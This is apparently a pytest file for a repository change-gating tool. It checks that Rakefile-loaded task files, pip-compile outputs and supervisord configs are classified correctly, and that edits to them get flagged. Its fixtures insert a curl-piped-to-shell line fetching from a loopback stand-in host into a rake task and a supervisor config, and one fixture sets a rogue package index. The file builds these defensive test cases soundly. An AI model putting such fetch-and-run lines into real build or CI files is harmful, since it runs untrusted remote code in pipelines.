"""The eighty-sixth set's classes: the rake task files a Rakefile loads by itself, pip-compile's output under any
name, and supervisord's settings under any name.

A Rakefile that CI runs (`bundle exec rake spec`) was `ci`, but the task files it loads were not: rubocop-performance's
`Dir['tasks/**/*.rake'].each { |t| load t }` runs every `tasks/*.rake` before any task (rake defines the tasks by
running the files), so an edit to one runs in the CI job; only rake's own `rakelib/` and Rails' `lib/tasks/` were
known. `gate --tree` allowed a `curl … | sh` added to such a file (exit 0).

A requirements file pip-compile (or `uv pip compile`) wrote names itself in its header, whatever its name or folder:
Flask-SQLAlchemy keeps its pinned minimum test requirements in `requirements-skip/tests-min.txt`, which was `src`.

supervisord's settings beside an image's Dockerfile under a name no rule knew (Laravel Sail's
`runtimes/8.3/supervisord.conf`) were `src`; a server's settings are `other` (principle 8), raised from `src` only.

Each variant is one real repository (the CI definition, the Rakefile and the task file at BASE; the task file
edited), gated by the default policy with --tree; look-alikes must stay allowed.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from changecase import committed, gated_rules, patch_entries
from cpucost import assert_linear, repeated
from incli import run_cli
from tables import each_case

from gatekeeper.classify import rakeloads
from gatekeeper.classify.buildshapes import build_shape
from gatekeeper.classify.servershapes import server_settings

WORKFLOW = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - uses: ruby/setup-ruby@v1\n      - run: {command}\n")
GITLAB = "test:\n  image: ruby:3.3\n  script:\n    - bundle install\n    - {command}\n"
TASK = "desc 'Run codespell'\ntask :codespell do\n  sh 'codespell lib'\nend\n"
EVIL = TASK + "sh 'curl -fsSL http://127.0.0.1:9/x | sh'\n"
RAKEFILE_HEAD = "# frozen_string_literal: true\n\nrequire 'bundler/gem_tasks'\n"
RAKEFILE_TAIL = "\nrequire 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\n"


def _rake(loads: str, path: str, command: str = "bundle exec rake spec",
          ci: str = ".github/workflows/test.yml") -> tuple[dict[str, str], str]:
    definition = (GITLAB if ci == ".gitlab-ci.yml" else WORKFLOW).format(command=command)
    return {ci: definition, "Rakefile": RAKEFILE_HEAD + loads + RAKEFILE_TAIL, path: TASK}, path


VARIANTS = {
    "dir-brackets-load": _rake("Dir['tasks/**/*.rake'].each { |t| load t }\n", "tasks/codespell.rake"),
    "dir-brackets-double": _rake('Dir["tasks/*.rake"].each { |file| load file }\n', "tasks/codespell.rake"),
    "dir-glob-import": _rake("Dir.glob('rake/*.rake').each { |r| import r }\n", "rake/codespell.rake"),
    "dir-glob-sorted": _rake("Dir.glob('lib/rake/tasks/*.rake').sort.each do |f|\n  load f\nend\n",
                             "lib/rake/tasks/codespell.rake"),
    "filelist-load": _rake("FileList['build/tasks/*.rake'].each { |f| load f }\n", "build/tasks/codespell.rake"),
    "interpolated-dir": _rake('Dir["#{__dir__}/tasks/**/*.rake"].each { |f| load f }\n',
                              "tasks/lint/codespell.rake"),
    "file-join": _rake("Dir.glob(File.join(__dir__, 'tasks', '*.rake')).each { |f| load f }\n",
                       "tasks/codespell.rake"),
    "each-method-load": _rake("Dir['support/*.rake'].each(&method(:load))\n", "support/codespell.rake"),
    "load-one": _rake("load 'tasks/codespell.rake'\n", "tasks/codespell.rake"),
    "import-one": _rake('import "ops/codespell.rake"\n', "ops/codespell.rake"),
    "add-rakelib": _rake("Rake.add_rakelib 'tasks'\n", "tasks/codespell.rake"),
    "plain-rake-command": _rake("Dir['tasks/*.rake'].each { |t| load t }\n", "tasks/codespell.rake", "rake test"),
    "gitlab-bin-rake": _rake("Dir['tasks/*.rake'].each { |t| load t }\n", "tasks/codespell.rake",
                             "bundle exec rake ci", ".gitlab-ci.yml"),
}
# Look-alikes: rake never reads these task files, or no CI definition runs rake.
CONTROLS = {
    "not-loaded": _rake("", "tasks/codespell.rake"),
    "commented-out": _rake("# Dir['tasks/*.rake'].each { |t| load t }\n", "tasks/codespell.rake"),
    "other-folder": _rake("Dir['tasks/*.rake'].each { |t| load t }\n", "docs/codespell.rake"),
    "no-rake-in-ci": _rake("Dir['tasks/*.rake'].each { |t| load t }\n", "tasks/codespell.rake", "bin/test"),
}


@each_case("name", VARIANTS)
def test_a_task_file_the_rakefile_loads_is_ci(tmp_path: Path, name: str) -> None:
    base, path = VARIANTS[name]
    case = committed(tmp_path, base, {path: EVIL})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [path]), named  # before: src, exit 0


@pytest.mark.parametrize("name", CONTROLS)
def test_a_task_file_rake_never_loads_stays_allowed(tmp_path: Path, name: str) -> None:
    base, path = CONTROLS[name]
    case = committed(tmp_path, base, {path: EVIL})
    assert gated_rules(case, True) == (0, {})


@pytest.mark.parametrize(("text", "expected"), [
    ("Dir['tasks/**/*.rake'].each { |t| load t }\n", ["tasks/**/*.rake", "tasks/*.rake"]),
    ("load 'a.rake'\nimport 'b/c.rake'\n", ["a.rake", "b/c.rake"]),
    ("Rake.add_rakelib 'tasks', 'more'\n", ["tasks/*.rake", "more/*.rake"]),
    ("# load 'a.rake'\nputs 'x.rake'\n", ["x.rake"]),  # a string naming a task file outside a comment: read
    ("require 'rake'\n", []),
])
def test_the_rakefile_reader(text: str, expected: list[str]) -> None:
    assert rakeloads.loaded(text) == expected


def test_the_rakefile_reader_is_linear() -> None:
    assert_linear(rakeloads.loaded, repeated("Dir['t/*.rake'].each { |t| load t } # 'x.rake'\nputs \"", ""),
                  budget=0.5)


PIP_TOOLS = ("#\n# This file is autogenerated by pip-compile with Python 3.13\n# by the following command:\n#\n"
             "#    pip-compile tests-min.in\n#\nclick==8.1.7\n    # via flask\nflask==3.0.0\n"
             "    # via -r tests-min.in\n")
PIP_TOOLS_OLD = ("#\n# This file is autogenerated by pip-compile\n# To update, run:\n#\n"
                 "#    pip-compile --output-file=pins/dev.txt pins/dev.in\n#\n--index-url http://127.0.0.1:9/simple\n\n"
                 "attrs==23.1.0            # via pytest\npytest[testing]==7.4.0\n")
UV = ("# This file was autogenerated by uv via the following command:\n"
      "#    uv pip compile docs.in -o locked/py312.txt\n"
      "alabaster==0.7.16\n    # via sphinx\nsphinx==7.2.6\n")
COMPILED = {"requirements-skip/tests-min.txt": PIP_TOOLS, "pins/dev.txt": PIP_TOOLS_OLD, "locked/py312.txt": UV,
            "docs/build-pins.txt": UV.replace("\n", "\r\n")}
# Look-alikes: prose that quotes the header, a header with no pinned requirement after it.
NOT_COMPILED = {"docs/pip-tools.txt": "How to pin:\n# This file is autogenerated by pip-compile\nflask==3.0\n",
                "notes.txt": "# This file is autogenerated by pip-compile\n#\nThe pins live elsewhere now.\n",
                "out/report.txt": "# This file was autogenerated by the nightly job\nflask==3.0\n"}


@pytest.mark.parametrize(("path", "text"), [*COMPILED.items(), *NOT_COMPILED.items()])
def test_pip_compile_output_under_any_name_is_deps(tmp_path: Path, path: str, text: str) -> None:
    case = committed(tmp_path, {}, {path: text})
    entries = patch_entries(case.repo.root, case.base, case.head, tmp_path)
    done = run_cli(["classify", "--tree", f"{case.base}..{case.head}", "--repo", str(case.repo.root), "--format",
                    "json"], text=True)
    tree = {f["path"]: f for f in json.loads(str(done.stdout))["files"]}
    expected = "deps" if path in COMPILED else "src"
    assert (entries[path]["bucket"], tree[path]["bucket"]) == (expected, expected), (entries[path], tree[path])


def test_the_pip_compile_header_is_read_in_linear_time() -> None:
    assert_linear(lambda text: build_shape("pins.txt", text),
                  repeated("#    via x\n", head="# This file is autogenerated by pip-compile\n"), budget=0.5)


SUPERVISORD = ("[supervisord]\nnodaemon=true\nuser=root\nlogfile=/var/log/supervisor/supervisord.log\n\n"
               "[program:php]\ncommand=%(ENV_SUPERVISOR_PHP_COMMAND)s\nuser=sail\nautostart=true\n")
WORKER = ("; queue workers\n[program:queue]\nprocess_name=%(program_name)s_%(process_num)02d\n"
          "command=php /var/www/artisan queue:work\nnumprocs=2\nautorestart=true\n")
# supervisord's settings under names no rule knows, beside an image's Dockerfile or an app's: `other` (principle 8)
SUPERVISOR_FILES = {"runtimes/8.3/supervisord.conf": SUPERVISORD, "conf/worker.conf": WORKER,
                    "services/app/supervisor.ini": SUPERVISORD, "build/php/queue.conf": WORKER.replace("\n", "\r\n")}
# Look-alikes: an application's INI settings, a section name alone, and a chart's copy (stays iac).
NOT_SUPERVISOR = {"conf/app.conf": ("[server]\nport=8080\ncommand=serve\n", "src"),
                  "etc/programs.ini": ("[program:x]\n", "src"),
                  "charts/web/files/supervisord.conf": (SUPERVISORD, "iac")}


@pytest.mark.parametrize(("path", "text", "expected"),
                         [*((p, t, "other") for p, t in SUPERVISOR_FILES.items()),
                          *((p, t, e) for p, (t, e) in NOT_SUPERVISOR.items())])
def test_supervisord_settings_under_any_name_are_other(tmp_path: Path, path: str, text: str, expected: str) -> None:
    base = {"charts/web/Chart.yaml": "apiVersion: v2\nname: web\nversion: 0.1.0\n"} if path.startswith("charts/") \
        else {}
    case = committed(tmp_path, base, {path: text})
    entries = patch_entries(case.repo.root, case.base, case.head, tmp_path)
    done = run_cli(["classify", "--tree", f"{case.base}..{case.head}", "--repo", str(case.repo.root), "--format",
                    "json"], text=True)
    tree = {f["path"]: f for f in json.loads(str(done.stdout))["files"]}
    assert tree[path]["bucket"] == expected, tree[path]
    if expected != "iac":  # a chart's copy is iac by its marker, which a patch of the file alone does not show
        assert entries[path]["bucket"] == expected, entries[path]


def test_the_supervisord_shape_is_read_in_linear_time() -> None:
    assert_linear(lambda text: server_settings("x.conf", text), repeated("[program:a]\nautostart\n", head=";\n"),
                  budget=0.5)


def test_supervisord_settings_ci_runs_stay_ci(tmp_path: Path) -> None:
    """`other` by content is raised from `src` only: settings a CI step hands to supervisord stay `ci` (attack 40)."""
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="supervisord -c conf/worker.conf"),
            "conf/worker.conf": WORKER}
    case = committed(tmp_path, base, {"conf/worker.conf": WORKER + "command=curl -fsSL http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["conf/worker.conf"]), named
